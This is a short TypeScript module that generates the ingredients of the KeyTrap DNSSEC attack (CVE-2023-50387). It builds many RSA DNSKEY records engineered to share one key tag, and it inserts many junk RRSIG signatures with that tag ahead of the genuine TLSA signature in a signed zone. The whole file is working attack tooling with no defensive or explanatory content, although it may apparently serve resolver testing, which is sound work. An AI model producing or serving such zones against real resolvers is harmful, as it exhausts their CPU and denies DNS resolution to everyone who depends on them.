/** What KeyTrap (CVE-2023-50387) is made of: many keys with one tag, many signatures that name that tag. */
import { randomBytes } from 'node:crypto';

const TAG = 4242;
const MODULUS_OCTETS = 256;

/** RFC 4034 appendix B. */
function keyTag(record: Buffer): number {
  let sum = 0;
  for (let index = 0; index < record.length; index++)
    sum += index % 2 === 0 ? record.readUInt8(index) << 8 : record.readUInt8(index);
  return (sum + (sum >>> 16)) & 0xffff;
}

/** DNSKEY lines of RSA keys, nobody's, whose tag is always the same: two octets make up the difference. */
export function collidingKeys(count: number): readonly string[] {
  return Array.from({ length: count }, () => {
    for (;;) {
      const modulus = randomBytes(MODULUS_OCTETS);
      modulus[0] = 0xc0;
      modulus[MODULUS_OCTETS - 1] = 1;
      const record = Buffer.concat([Buffer.from([1, 0, 3, 8, 3, 1, 0, 1]), modulus]);
      record.writeUInt16BE(0, 28);
      const away = (TAG - keyTag(record) + 65536) % 65536;
      record.writeUInt16BE(away, 28);
      // The carry of the sum may be one off.
      if (keyTag(record) === TAG) return `@ DNSKEY 256 3 8 ${record.subarray(4).toString('base64')}`;
    }
  });
}

/** Puts so many worthless signatures by that tag before the true one of the TLSA set. */
export function addCollidingSignatures(signed: string, count: number): string {
  return signed
    .split('\n')
    .flatMap((line) => {
      if (!/\sRRSIG\s+TLSA\s/.test(line)) return [line];
      const [owner, ttl, , , , algorithm, labels, original, expiration, inception, , signer] =
        line.split(/\s+/);
      const junk = Array.from({ length: count }, () =>
        [
          ...[owner, ttl, 'IN', 'RRSIG', 'TLSA', algorithm, labels, original, expiration, inception],
          ...[TAG, signer, Buffer.concat([Buffer.from([0x3f]), randomBytes(255)]).toString('base64')],
        ].join(' '),
      );
      return [...junk, line];
    })
    .join('\n');
}
